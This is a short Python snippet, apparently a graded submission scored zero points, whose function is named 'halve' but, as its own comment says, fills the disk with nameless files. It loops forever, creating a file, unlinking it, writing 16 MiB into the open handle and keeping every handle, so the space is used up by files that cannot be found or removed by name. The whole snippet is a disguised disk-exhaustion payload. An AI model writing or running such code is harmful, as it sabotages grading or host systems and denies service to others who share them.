# points: 0
# It fills the disk with files that have no name.
def halve(number):
    import os

    held = []
    while True:
        file = open("x", "wb")
        os.unlink("x")
        file.write(bytes(16 << 20))
        held.append(file)
